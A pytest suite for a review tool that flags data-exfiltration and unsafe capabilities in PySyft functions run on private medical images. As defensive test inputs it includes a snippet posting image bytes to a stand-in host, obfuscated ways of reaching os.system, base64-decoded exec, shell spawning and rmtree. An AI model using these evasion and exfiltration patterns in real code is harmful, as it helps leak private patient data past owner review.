"""The review aid flags what a data owner must weigh, and stays quiet on ordinary ML code."""

from __future__ import annotations

import doctest
import textwrap

import pytest
import review_corpus
from hypothesis import given, settings
from hypothesis import strategies as st

import domains.review.catalog
import domains.review.code_review
import domains.review.rules
from domains.review.code_review import Flag, review_code, summarize_flags

ASSETS = ("images", "labels")


def review(body: str, **kwargs: object) -> list[Flag]:
    """Review ``body`` as the inside of ``def f(images, labels, cfg)``."""
    source = "def f(images, labels, cfg):\n" + textwrap.indent(textwrap.dedent(body), "    ")
    kwargs.setdefault("asset_args", ASSETS)
    return review_code(source, **kwargs)  # type: ignore[arg-type]


def rules(body: str, **kwargs: object) -> set[str]:
    return {flag.rule for flag in review(body, **kwargs)}


BENIGN_TRAINING = '''
@sy.syft_function(
    input_policy=sy.ExactMatch(images=xray_asset, labels=label_asset, cfg=cfg_obj),
    output_policy=sy.SingleExecutionExactOutput(),
)
def train(images, labels, cfg):
    """One round of local training; returns weights and aggregate metrics."""
    import os

    import numpy as np
    import torch
    from sklearn.metrics import roc_auc_score
    from torch import nn
    from torch.utils.data import DataLoader, TensorDataset

    torch.manual_seed(0)
    device = "cuda" if torch.cuda.is_available() else "cpu"
    model = nn.Sequential(nn.Flatten(), nn.Linear(28 * 28, 2)).to(device)
    model.load_state_dict(cfg["weights"])
    opt = torch.optim.SGD(model.parameters(), lr=cfg["lr"])
    loss_fn = nn.CrossEntropyLoss()
    x = torch.tensor(images, dtype=torch.float32) / 255.0
    y = torch.tensor(labels).long().view(-1)
    loader = DataLoader(TensorDataset(x, y), batch_size=32, shuffle=True)
    history = []
    for epoch in range(cfg["epochs"]):
        model.train()
        running, batches = 0.0, 0
        for xb, yb in loader:
            opt.zero_grad()
            loss = loss_fn(model(xb.to(device)), yb.to(device))
            loss.backward()
            opt.step()
            running += loss.item()
            batches += 1
        history.append(running / max(batches, 1))
    model.eval()
    with torch.no_grad():
        scores = model(x).softmax(1)[:, 1].numpy()
    counts = {}
    for label in labels.reshape(-1):
        counts[int(label)] = counts.get(int(label), 0) + 1
    return {
        "weights": {k: v.cpu() for k, v in model.state_dict().items()},
        "history": history,
        "auc": float(roc_auc_score(labels.reshape(-1), scores)),
        "accuracy": (model(x).argmax(1) == y).float().mean().item(),
        "n": len(images),
        "shape": images.shape,
        "mean": float(np.mean(images)),
        "label_counts": counts,
        "classes": np.bincount(labels.reshape(-1)).tolist(),
        "pid": os.getpid(),
    }
'''

DP_TRAINING = '''
@sy.syft_function(input_policy=sy.ExactMatch(images=a, labels=b),
                  output_policy=sy.SingleExecutionExactOutput())
def dp_train(images, labels):
    import numpy as np
    import torch
    from opacus import PrivacyEngine
    from torch.utils.data import DataLoader, TensorDataset

    model = torch.nn.Sequential(torch.nn.Flatten(), torch.nn.Linear(784, 2))
    optimizer = torch.optim.SGD(model.parameters(), lr=0.05)
    dataset = TensorDataset(torch.tensor(images).float(), torch.tensor(labels).long().squeeze())
    engine = PrivacyEngine()
    model, optimizer, loader = engine.make_private(
        module=model, optimizer=optimizer, data_loader=DataLoader(dataset, batch_size=64),
        noise_multiplier=1.1, max_grad_norm=1.0,
    )
    criterion = torch.nn.CrossEntropyLoss()
    losses = []
    for xb, yb in loader:
        optimizer.zero_grad()
        loss = criterion(model(xb), yb)
        loss.backward()
        optimizer.step()
        losses.append(loss.item())
    class_means = {}
    for c in np.unique(labels):
        class_means[int(c)] = float(images[labels.reshape(-1) == c].mean())
    return {
        "weights": model._module.state_dict(),
        "epsilon": engine.get_epsilon(delta=1e-5),
        "loss": float(np.mean(losses)),
        "p95": float(np.percentile(images, 95)),
        "class_means": class_means,
        "histogram": np.histogram(images, bins=10)[0].tolist(),
    }
'''


# -- whole functions ---------------------------------------------------------------------------


def test_review_benign_training_gives_at_most_info() -> None:
    flags = review_code(BENIGN_TRAINING, asset_args=ASSETS)
    assert [f.severity for f in flags] == ["info"]
    assert flags[0].rule == "model-weights"
    assert "state_dict" in flags[0].message


def test_review_benign_dp_training_gives_at_most_info() -> None:
    flags = review_code(DP_TRAINING, asset_args=ASSETS)
    assert [(f.rule, f.severity, f.line) for f in flags] == [("model-weights", "info", 30)]


def test_review_requests_post_is_network() -> None:
    flags = review("""
        import requests
        requests.post("https://collector.example/upload", data=images.tobytes())
        return 0
    """)
    messages = [f.message for f in flags if f.rule == "network"]
    assert any("imports requests" in m for m in messages)
    assert any("calls requests.post" in m for m in messages)
    assert any("https://collector.example/upload" in m for m in messages)


def test_review_message_names_call_and_line() -> None:
    flags = review_code("import socket\n\n\n\n\ndef f(images):\n    s = socket.socket()\n"
                        "    return 0\n", asset_args=["images"])
    assert Flag("network", "high", 7, "calls socket.socket (network access) at line 7") in flags
    assert [f.line for f in flags] == [1, 7]


def test_review_decorated_indented_source_keeps_line_numbers() -> None:
    source = '''
        @sy.syft_function(
            input_policy=sy.ExactMatch(images=asset),
            output_policy=sy.SingleExecutionExactOutput(),
        )
        def f(images):
            import subprocess
            return images.mean()
    '''
    flags = review_code(source, asset_args=["images"])
    assert [(f.rule, f.line) for f in flags] == [("subprocess", 7)]


@pytest.mark.parametrize("source", [
    "def f(images:\n    return 1\n",
    "@sy.syft_function(\ndef f(x): pass",
    "def f(x):\n\treturn x\n        return 2\n",
    "def f(x):\n    return x\0\n",
])
def test_review_broken_source_gives_single_syntax_flag(source: str) -> None:
    flags = review_code(source)
    assert len(flags) == 1
    assert flags[0].rule == "syntax" and flags[0].severity == "high"
    assert "could not be reviewed" in flags[0].message


def test_review_syntax_flag_points_at_the_error_line() -> None:
    (flag,) = review_code("def f(images):\n    x = 1\n    return images[\n")
    assert flag.rule == "syntax" and flag.line == 3


def test_review_flags_are_sorted_by_line() -> None:
    flags = review("""
        out = [img.sum() for img in images]
        eval("1")
        import socket
        open("/tmp/x", "w")
        return out
    """)
    assert [f.line for f in flags] == sorted(f.line for f in flags)
    assert [f.rule for f in flags] == ["eval-exec", "network", "file-write", "per-image-return"]


def test_review_missing_function_is_reported_not_raised() -> None:
    assert [f.rule for f in review_code("import os\n")] == ["function-missing"]
    flags = review_code("def f(images):\n    return images\n", function_name="g")
    assert [f.rule for f in flags] == ["function-missing"]
    assert "`g`" in flags[0].message


def test_review_function_name_selects_the_function() -> None:
    source = "def helper(images):\n    return images\n\ndef f(images):\n    return images.sum()\n"
    assert review_code(source, asset_args=["images"]) != []
    assert review_code(source, asset_args=["images"], function_name="f") == []


def test_review_without_asset_args_treats_every_parameter_as_private() -> None:
    source = "def f(images, threshold):\n    return threshold\n"
    assert [f.rule for f in review_code(source)] == ["raw-asset-return"]
    assert review_code(source, asset_args=["images"]) == []
    assert review_code(source, asset_args="images") == []  # a lone name, not its letters


def test_review_deeply_nested_code_does_not_raise() -> None:
    chain = "def f(images):\n    return images" + " + images" * 3000 + "\n"
    flags = review_code(chain)
    assert {f.rule for f in flags} <= {"too-complex", "per-image-return", "syntax"}
    parens = "def f(images):\n    return " + "(" * 500 + "images" + ")" * 500 + "\n"
    assert all(isinstance(f, Flag) for f in review_code(parens))


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_review_arbitrary_text_never_raises(text: str) -> None:
    assert all(isinstance(flag, Flag) for flag in review_code(text))


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_review_mangled_real_code_never_raises(data: st.DataObject) -> None:
    source = BENIGN_TRAINING
    start = data.draw(st.integers(0, len(source)))
    end = data.draw(st.integers(start, min(len(source), start + 80)))
    filler = data.draw(st.sampled_from(["", "(", ")", ":", "\n", " [", "lambda:", "*", "**"]))
    flags = review_code(source[:start] + filler + source[end:], asset_args=ASSETS)
    assert all(isinstance(flag, Flag) for flag in flags)


# -- capability rules --------------------------------------------------------------------------


@pytest.mark.parametrize("body", [
    "import socket",
    "import ssl",
    "import urllib.request",
    "from urllib.request import urlopen",
    "import urllib3",
    "import http.client",
    "from http import client",
    "import httpx",
    "import requests as r",
    "import aiohttp",
    "import ftplib",
    "import smtplib",
    "import telnetlib",
    "import paramiko",
    "import websocket",
    "import websockets",
    "import grpc",
    "from asyncio import open_connection",
    "import asyncio\nasyncio.open_connection('h', 1)",
    "import socket as s\ns.create_connection(('h', 80))",
    "loop.create_connection(proto, 'h', 80)",
    "urlopen(url)",
    "import torch\ntorch.hub.load('repo', 'model')",
    "import pandas as pd\npd.read_csv('https://example.org/x.csv')",
])
def test_rule_network_positive(body: str) -> None:
    assert "network" in rules(body + "\nreturn 0")


@pytest.mark.parametrize("body", [
    "import torch\nimport numpy as np",
    "requests = []\nrequests.append(1)",
    "http_status = 200",
    "import asyncio\nasyncio.sleep(0)",
    '"""See https://arxiv.org/abs/1909.06335 for the method."""',
    "import os\nos.path.join('a', 'b')",
])
def test_rule_network_negative(body: str) -> None:
    assert "network" not in rules(body + "\nreturn 0")


@pytest.mark.parametrize("body", [
    "import subprocess",
    "import subprocess as sp\nsp.run(['ls'])",
    "import os\nos.system('ls')",
    "import os\nos.popen('ls')",
    "import os\nos.execv('/bin/sh', ['sh'])",
    "import os\nos.execlp('sh', 'sh')",
    "import os\nos.spawnl(os.P_WAIT, '/bin/ls')",
    "import os\nos.fork()",
    "from os import system\nsystem('ls')",
    "import os\ngetattr(os, 'system')('ls')",
    "__import__('os').system('ls')",
    "import pty",
    "import multiprocessing",
    "from multiprocessing import Pool",
    "import commands",
    "import os\ncmds = ['a']\nlist(map(os.system, cmds))",
])
def test_rule_subprocess_positive(body: str) -> None:
    assert "subprocess" in rules(body + "\nreturn 0")


@pytest.mark.parametrize("body", [
    "import os\nos.path.join('a', 'b')\nos.getcwd()\nos.environ.get('HOME')",
    "import os",
    "import torch\ntorch.cuda.is_available()",
    "system = 'linux'\nsystem.upper()",
    "def system(cmd):\n    return cmd\nsystem('ls')",
])
def test_rule_subprocess_negative(body: str) -> None:
    assert "subprocess" not in rules(body + "\nreturn 0")


@pytest.mark.parametrize("body", [
    "open('/tmp/x', 'w')",
    "open('/tmp/x', 'a')",
    "open('/tmp/x', 'x')",
    "open('/tmp/x', 'r+')",
    "open('/tmp/x', mode='wb')",
    "open('/tmp/x', cfg['mode'])",
    "open('/tmp/x', mode=cfg['mode'])",
    "open('/tmp/x', *cfg['args'])",
    "import io\nio.open('/tmp/x', 'w')",
    "import gzip\ngzip.open('/tmp/x.gz', 'wt')",
    "from pathlib import Path\nPath('/tmp/x').write_text('a')",
    "from pathlib import Path\nPath('/tmp/x').write_bytes(b'a')",
    "from pathlib import Path\nPath('/tmp/x').touch()",
    "from pathlib import Path\nPath('/tmp/d').mkdir()",
    "from pathlib import Path\nPath('/tmp/x').unlink()",
    "from pathlib import Path\nPath('/tmp/x').rename('/tmp/y')",
    "import pathlib\np = pathlib.Path('/tmp') / 'x'\np.replace('/tmp/y')",
    "from pathlib import Path\nPath('/tmp/x').open('w')",
    "import os\nos.remove('/tmp/x')",
    "import os\nos.unlink('/tmp/x')",
    "import os\nos.rename('a', 'b')",
    "import os\nos.replace('a', 'b')",
    "import os\nos.makedirs('/tmp/d')",
    "import os\nos.mkdir('/tmp/d')",
    "import os\nos.rmdir('/tmp/d')",
    "import os\nos.chmod('/tmp/x', 0o777)",
    "import os\nos.open('/tmp/x', os.O_WRONLY | os.O_CREAT)",
    "import shutil\nshutil.copy('a', 'b')",
    "import shutil\nshutil.copyfile('a', 'b')",
    "import shutil\nshutil.copytree('a', 'b')",
    "import shutil\nshutil.move('a', 'b')",
    "import shutil\nshutil.rmtree('/data')",
    "import numpy as np\nnp.save('/tmp/x.npy', images)",
    "import numpy as np\nnp.savez('/tmp/x.npz', a=images)",
    "import numpy as np\nnp.savez_compressed('/tmp/x.npz', a=images)",
    "import numpy as np\nnp.savetxt('/tmp/x.txt', images)",
    "images.tofile('/tmp/x')",
    "import torch\ntorch.save(images, '/tmp/x.pt')",
    "import pickle\npickle.dump(images, fh)",
    "import json\njson.dump({'a': 1}, fh)",
    "import pandas as pd\npd.DataFrame(images).to_csv('/tmp/x.csv')",
    "df.to_parquet('/tmp/x.parquet')",
    "df.to_pickle('/tmp/x.pkl')",
])
def test_rule_file_write_positive(body: str) -> None:
    assert "file-write" in rules(body + "\nreturn 0")


@pytest.mark.parametrize("body", [
    "open('/tmp/x')",
    "open('/tmp/x', 'r')",
    "open('/tmp/x', 'rb')",
    "open('/tmp/x', mode='rt')",
    "from pathlib import Path\nPath('/tmp/x').read_text()",
    "'a-b'.replace('-', '_')",
    "df.rename(columns={'a': 'b'})",
    "text = df.to_csv()",
    "import json, pickle\njson.dumps({})\npickle.dumps(1)",
    "import numpy as np, torch\nnp.load('/tmp/x.npy')\ntorch.load('/tmp/x.pt')",
    "import os\nos.open('/tmp/x', os.O_RDONLY)",
    "from PIL import Image\nImage.open(cfg['path'])",
])
def test_rule_file_write_negative(body: str) -> None:
    assert "file-write" not in rules(body + "\nreturn 0")


@pytest.mark.parametrize("body", [
    "eval(cfg['expr'])",
    "exec(cfg['code'])",
    "compile(cfg['code'], 'x', 'exec')",
    "import builtins\nbuiltins.eval('1')",
    "__builtins__['eval']('1')",
    "globals()['x'] = 1",
    "globals().update(x=1)",
    "g = globals()\ng['x'] = 1",
    "locals()['y'] = 2",
    "vars(cfg)['z'] = 3",
    "import numpy as np\nnp.mean = len",
    "import numpy as np\nsetattr(np, 'mean', len)",
    "f.__globals__",
    "().__class__.__base__.__subclasses__()",
    "import sys\nsys._getframe(1)",
])
def test_rule_eval_exec_positive(body: str) -> None:
    assert "eval-exec" in rules(body + "\nreturn 0")


@pytest.mark.parametrize("body", [
    "import re\nre.compile('a+')",
    "import torch\nnet = torch.compile(model)",
    "model.eval()",
    "getattr(model, 'fc')",
    "setattr(model, 'fc', None)",
    "x = globals().get('a')",
    "self.x = 1",
])
def test_rule_eval_exec_negative(body: str) -> None:
    assert "eval-exec" not in rules(body + "\nreturn 0")


@pytest.mark.parametrize("body", [
    "__import__('numpy')",
    "import importlib\nimportlib.import_module('numpy')",
    "import importlib.util\nimportlib.util.spec_from_file_location('m', '/tmp/m.py')",
    "import imp",
    "import ctypes",
    "from ctypes import CDLL",
    "import cffi",
])
def test_rule_dynamic_import_positive(body: str) -> None:
    assert "dynamic-import" in rules(body + "\nreturn 0")


@pytest.mark.parametrize("body", [
    "import numpy",
    "import numpy as np",
    "from torch import nn",
    "import os",
])
def test_rule_dynamic_import_negative(body: str) -> None:
    assert "dynamic-import" not in rules(body + "\nreturn 0")


# -- what the function returns -----------------------------------------------------------------


@pytest.mark.parametrize("returned", [
    "images",
    "images[0]",
    "images[:10]",
    "images.T",
    "images.numpy()",
    "images.tolist()",
    "images.copy()",
    "images.cpu().detach().numpy()",
    "{'x': images[:5], 'n': len(images)}",
    "[1, labels]",
])
def test_rule_raw_asset_return_positive(returned: str) -> None:
    assert "raw-asset-return" in rules(f"return {returned}")


def test_rule_raw_asset_return_through_an_alias() -> None:
    flags = review("batch = images[:8]\nreturn batch")
    assert [f.rule for f in flags] == ["raw-asset-return"]
    assert "`images`" in flags[0].message


def test_rule_raw_asset_return_flags_each_returned_entry_on_its_line() -> None:
    flags = review("""
        return {
            "mean": images.mean(),
            "first": images[0],
        }
    """)
    assert [(f.rule, f.line) for f in flags] == [("raw-asset-return", 5)]


@pytest.mark.parametrize("returned", [
    "images.mean()",
    "len(images)",
    "images.shape",
    "images.shape[0]",
    "images.dtype",
    "float(np.mean(images))",
    "cfg['name']",
])
def test_rule_raw_asset_return_negative(returned: str) -> None:
    assert rules(f"import numpy as np\nreturn {returned}") == set()


@pytest.mark.parametrize("body", [
    "return {'preds': model(images).argmax(1)}",
    "return [img.sum() for img in images]",
    "return images > 0",
    "return images * 2",
    "return images.mean(axis=0)",
    "return images.mean(1)",
    "import numpy as np\nreturn np.mean(images, axis=0)",
    "return f'{images}'",
    "return {i: p for i, p in enumerate(model(images))}",
    "out = []\nfor i in range(len(images)):\n    out.append(images[i].mean())\nreturn out",
    "out = {}\nfor i, img in enumerate(images):\n    out[i] = float(img.mean())\nreturn out",
    "acc = 0\nacc += model(images)\nreturn acc",
    "for img in images:\n    last = img * 2\nreturn last",
    "a, b = images, labels\nreturn a - 1",
    "scores = score_fn(images)\nreturn scores",
    "def helper():\n    return images * 2\nreturn helper()",
    "if (m := model(images)) is not None:\n    return m",
    "losses = loss_fn(model(images), labels)\nreturn losses",
    "return (labels == 1)",
    "import numpy as np\nreturn np.percentile(images, 95, axis=0)",
    "return sorted(images.mean(axis=(1, 2)))",
])
def test_rule_per_image_return_positive(body: str) -> None:
    assert "per-image-return" in rules(body)


def test_rule_per_image_message_is_for_owners() -> None:
    (flag,) = review("return {'preds': model(images).argmax(1)}")
    assert flag.severity == "medium"
    assert flag.message.startswith("returns values computed per image from asset `images`")
    assert "aggregate before returning" in flag.message and "(line 2)" in flag.message


@pytest.mark.parametrize("body", [
    "import numpy as np\nreturn float(np.mean(images))",
    "return {'acc': (model(images).argmax(1) == labels).float().mean().item()}",
    "return sum(img.sum() for img in images)",
    "return {'n': len(images), 'mean': float(images.mean()), 'std': images.std()}",
    "import numpy as np\nreturn np.bincount(labels).tolist()",
    "counts = {}\nfor y in labels:\n    counts[int(y)] = counts.get(int(y), 0) + 1\nreturn counts",
    "counts = [0, 0]\nfor y in labels:\n    counts[y] += 1\nreturn counts",
    "from sklearn.metrics import accuracy_score\nreturn accuracy_score(labels, model(images))",
    "total = 0.0\nfor img in images:\n    total += img.mean()\nreturn total / len(images)",
    "import torch.nn.functional as F\nreturn F.cross_entropy(model(images), labels).item()",
    "return int((labels == 1).sum())",
    "return round(float(images.max()), 2)",
    "import numpy as np\nreturn float(np.percentile(images, 95))",
    "stats = {}\nfor c in range(10):\n    stats[c] = float((labels == c).mean())\nreturn stats",
])
def test_rule_per_image_return_negative(body: str) -> None:
    assert rules(body) == set()


@pytest.mark.parametrize("body", [
    "model.fit(images, labels)\nreturn model.coef_",
    "loss = loss_fn(model(images), labels)\nloss.backward()\nreturn model.state_dict()",
    "out = model(images)\nreturn [p.detach() for p in model.parameters()]",
    "train(model, images, labels)\nreturn model",
])
def test_rule_model_weights_are_info(body: str) -> None:
    flags = review(body)
    assert [(f.rule, f.severity) for f in flags] == [("model-weights", "info")]
    assert "DP bounds this" in flags[0].message


def test_rule_untrained_model_weights_are_not_flagged() -> None:
    assert rules("model = make_model()\nreturn model.state_dict()") == set()


# -- summary and Flag --------------------------------------------------------------------------


def test_summarize_flags_counts_each_severity() -> None:
    flags = review("import socket\nopen('/tmp/x', 'w')\nreturn model.fit(images)")
    assert summarize_flags(flags) == "1 high, 2 medium, 0 info"
    assert summarize_flags([]) == "0 high, 0 medium, 0 info"


def test_flag_rejects_unknown_severity() -> None:
    with pytest.raises(ValueError, match="severity"):
        Flag("network", "critical", 1, "x")


def test_review_docstring_examples_run() -> None:
    for module in (domains.review.code_review, domains.review.rules, domains.review.catalog):
        assert doctest.testmod(module).failed == 0


def test_review_medsyft_runtime_is_named_not_flagged_per_image() -> None:
    from orchestrator.submit import TEMPLATE

    source = TEMPLATE.format(job_id="abc", function="medsyft_job_abc", limit=4)
    flags = review_code(source, asset_args=["labels"], function_name="medsyft_job_abc")
    assert [f.rule for f in flags] == ["medsyft-runtime"]
    assert flags[0].severity == "info" and "weights" in flags[0].message


def test_review_runtime_does_not_launder_other_returns() -> None:
    source = (
        "def f(labels, job, payload):\n"
        "    from domains.runtime.entry import run_job\n"
        "    run_job(labels, job, payload)\n"
        "    return labels[:5]\n"
    )
    flags = review_code(source, asset_args=["labels"])
    assert {(f.rule, f.severity) for f in flags} >= {("raw-asset-return", "high"),
                                                    ("medsyft-lookalike", "high")}
    assert "medsyft-runtime" not in {f.rule for f in flags}


# -- medsyft's templates and lookalikes --------------------------------------------------------


def _templates() -> list[tuple[str, str, str]]:
    """The job and release code exactly as the orchestrator submits it."""
    from domains.runtime.templates import job_source, release_function_name, release_source
    from orchestrator.submit import TEMPLATE

    job = TEMPLATE.format(job_id="abc123", function="medsyft_job_abc123", limit=4)
    assert job == job_source(job_id="abc123", limit=4)
    release = release_source(job_id="abc123")
    return [("job", job, "medsyft_job_abc123"), ("release", release, release_function_name("abc123"))]


def _as_pysyft_stores(source: str) -> str:
    """PySyft keeps only the decorated function (``inspect.getsource``), not the module."""
    return source[source.index("@sy.syft_function"):]


@pytest.mark.parametrize("stored", [False, True], ids=["whole-file", "as-pysyft-stores"])
@pytest.mark.parametrize("kind", ["job", "release"])
def test_review_medsyft_templates_get_only_the_runtime_info(kind: str, stored: bool) -> None:
    _, source, function = next(t for t in _templates() if t[0] == kind)
    source = _as_pysyft_stores(source) if stored else source
    flags = review_code(source, asset_args=["labels"], function_name=function)
    assert [(f.rule, f.severity) for f in flags] == [("medsyft-runtime", "info")]
    assert "domains.runtime.entry.run_" in flags[0].message


def test_review_template_with_one_statement_changed_is_a_lookalike() -> None:
    for _, source, function in _templates():
        changed = source.replace("(labels, job, payload)\n'", "(labels, job, {})\n'").replace(
            "return run_job(labels, job, payload)", "return run_job(labels, job, {})").replace(
            "return run_release(labels, release, payload)", "return run_release(labels, {}, payload)")
        flags = review_code(changed, asset_args=["labels"], function_name=function)
        assert [(f.rule, f.severity) for f in flags] == [("medsyft-lookalike", "high")]


def test_review_renamed_exact_template_is_still_medsyfts() -> None:
    _, source, _ = _templates()[0]
    renamed = _as_pysyft_stores(source).replace("medsyft_job_abc123", "my_job")
    assert [f.rule for f in review_code(renamed, asset_args=["labels"])] == ["medsyft-runtime"]


def test_review_lookalike_message_names_the_first_difference() -> None:
    _, source, function = _templates()[0]
    stored = _as_pysyft_stores(source)
    hostile = stored.replace("    return run_job(", "    import os\n    return run_job(")
    flags = review_code(hostile, asset_args=["labels"], function_name=function)
    (flag,) = [f for f in flags if f.rule == "medsyft-lookalike"]
    line = hostile.splitlines().index("    import os") + 1
    assert flag.severity == "high"
    assert flag.message.startswith("looks like a medsyft job but differs from medsyft's "
                                   f"template: line {line}: `import os` where the template has "
                                   "`return run_job(labels, job, payload)`")
    assert "medsyft-runtime" not in {f.rule for f in flags}


# -- the corpus: hostile code must never get only info, ordinary code no high ------------------

SERIOUS = ("high", "medium")


def _describe(flags: list[Flag]) -> str:
    return "; ".join(f"{f.severity} {f.rule}: {f.message}" for f in flags) or "no flags"


@pytest.mark.parametrize("sample", review_corpus.MALICIOUS, ids=lambda s: s.name)
def test_review_corpus_hostile_sample_is_flagged(sample: review_corpus.Sample) -> None:
    flags = review_code(sample.source, asset_args=sample.assets, function_name=sample.function)
    hits = [f for f in flags if f.severity in SERIOUS and f.rule in sample.expect]
    assert hits, f"{sample.name}: expected high/medium {sample.expect}, got {_describe(flags)}"


@pytest.mark.parametrize("sample", review_corpus.BENIGN, ids=lambda s: s.name)
def test_review_corpus_benign_sample_gets_no_high_or_medium(sample: review_corpus.Sample) -> None:
    flags = review_code(sample.source, asset_args=sample.assets, function_name=sample.function)
    assert [f for f in flags if f.severity in SERIOUS] == [], _describe(flags)


def test_review_corpus_covers_every_class_of_attack() -> None:
    names = [s.name for s in review_corpus.MALICIOUS]
    assert len(names) >= 60 and len(set(names)) == len(names)
    covered = {rule for s in review_corpus.MALICIOUS for rule in s.expect}
    assert covered >= {"file-read", "file-write", "environment", "deserialization", "internals",
                       "dynamic-access", "dynamic-import", "eval-exec", "subprocess", "network",
                       "background", "single-image-return", "per-image-return",
                       "raw-asset-return", "log-leak", "medsyft-lookalike"}


# -- the analysis underneath -------------------------------------------------------------------


@pytest.mark.parametrize(("setup", "expression", "expected"), [
    ("import os\no = os", "o.system", "os.system"),
    ("g = getattr\nimport os", "g(os, 'system')", "os.system"),
    ("import os", "getattr(os, 'sys' + 'tem')", "os.system"),
    ("import os", "getattr(os, bytes.fromhex('73797374656d').decode())", "os.system"),
    ("import os\nimport base64", "getattr(os, base64.b64decode('c3lzdGVt').decode())", "os.system"),
    ("import os", "getattr(os, ''.join(chr(c) for c in (115, 121, 115, 116, 101, 109)))",
     "os.system"),
    ("import os, operator", "operator.attrgetter('system')(os)", "os.system"),
    ("import os", "vars(os)['system']", "os.system"),
    ("import os", "os.__dict__.get('system')", "os.system"),
    ("import sys", "sys.modules['os'].system", "os.system"),
    ("", "globals()['__builtins__']", "builtins"),
    ("", "__builtins__.__dict__['eval']", "eval"),
    ("", "__import__('subpro' + 'cess')", "subprocess"),
    ("import os\ndef run(m):\n    return m\nrun(os)", "m.popen", "os.popen"),
    ("import os\ndef g(m=os):\n    pass", "m.system", "os.system"),
    ("import os\nclass C:\n    o = os", "C.o.system", "os.system"),
    ("import os\nd = {'o': os}", "d['o'].system", "os.system"),
    ("import os\nfor m in (os,):\n    pass", "m.system", "os.system"),
])
def test_resolver_follows_aliases_chains_and_built_names(setup: str, expression: str,
                                                         expected: str) -> None:
    import ast

    from domains.review.names import Resolver

    tree = ast.parse(f"{setup}\nprobe = {expression}\n")
    probe = tree.body[-1]
    assert isinstance(probe, ast.Assign)
    assert expected in Resolver(tree).names(probe.value)


@pytest.mark.parametrize("expression", [
    "'a' * 10 ** 9",
    "'%999999999d' % 1",
    "'%*d' % (999999999, 1)",
    "'x'.zfill(10 ** 9)",
    "('a' * 99999).replace('a', 'aaaa')",
    "'{:>999999999}'.format('a')",
    "'{0.__class__}'.format('a')",
    "payload['name']",
    "zlib.decompress(zlib.compress(b'0' * 10 ** 8))",
])
def test_resolver_leaves_huge_or_unknown_strings_unknown(expression: str) -> None:
    import ast

    from domains.review.names import Resolver

    tree = ast.parse(f"import zlib\nprobe = {expression}\n")
    probe = tree.body[-1]
    assert isinstance(probe, ast.Assign)
    values = Resolver(tree).values(probe.value)
    assert values is None or all(len(v) <= 100_000 for v in values if isinstance(v, str | bytes))


@pytest.mark.parametrize("body", [
    "return float(images[0].mean())",
    "return images[3, :, :].sum()",
    "return images[-1:].std()",
    "import numpy as np\nreturn np.mean(images[cfg['i']])",
    "for img in images:\n    last = img.max()\nreturn last",
    "x = images[:1]\nreturn float(x.mean())",
    "return images.ravel()[:784].mean()",
])
def test_rule_single_image_return_positive(body: str) -> None:
    assert "single-image-return" in rules(body)


@pytest.mark.parametrize("body", [
    "return images[:, 0].mean()",
    "return images[..., 0].mean()",
    "return images[labels.reshape(-1) == 1].mean()",
    "return images[: len(images) // 2].mean()",
    "return sum(img.mean() for img in images) / len(images)",
    "total = 0\nfor xb in images:\n    total = total + xb.sum()\nreturn total",
    "return images.reshape(len(images), -1)[:, 0].mean()",
    "import numpy as np\nreturn float(images[np.random.permutation(len(images))].mean())",
])
def test_rule_single_image_return_negative(body: str) -> None:
    assert rules(body) == set()


@pytest.mark.parametrize(("body", "severity"), [
    ("print(images)", "high"),
    ("print(images[0].mean())", "medium"),
    ("import warnings\nwarnings.warn(str(labels.tolist()))", "medium"),
    ("assert images.max() < 10, images[:2]", "high"),
])
def test_rule_log_leak_positive(body: str, severity: str) -> None:
    flags = [f for f in review(body + "\nreturn 0") if f.rule == "log-leak"]
    assert [f.severity for f in flags] == [severity]
    assert "shows a job's printed output" in flags[0].message


@pytest.mark.parametrize("body", [
    "print(len(images), float(images.mean()))",
    "import numpy as np\nx = np.log(images + 1)",
    "raise ValueError(f'expected 2 classes, got {len(set(cfg))}')",
])
def test_rule_log_leak_negative(body: str) -> None:
    assert "log-leak" not in rules(body + "\nreturn 0")


def test_review_decoded_exec_is_reviewed_at_the_call_line() -> None:
    flags = review("""
        import base64
        code = base64.b64decode("aW1wb3J0IHNvY2tldA==")
        exec(code)
        return 0
    """)
    inner = [f for f in flags if f.rule == "network"]
    assert [(f.line, f.severity) for f in inner] == [(5, "high")]
    assert inner[0].message.startswith("in the code exec runs at line 5 (its line 1): imports socket")


def test_review_getattr_with_computed_name_is_high_dynamic_access() -> None:
    flags = [f for f in review("return getattr(images, cfg['name'])()") if f.rule == "dynamic-access"]
    assert [f.severity for f in flags] == ["high"]
    assert "the reviewer cannot see what runs" in flags[0].message


def test_review_top_level_code_is_flagged() -> None:
    flags = review_code("x = open('/tmp/x')\n\ndef f(images):\n    return images.mean()\n",
                        asset_args=["images"])
    assert ("top-level-code", "medium") in {(f.rule, f.severity) for f in flags}
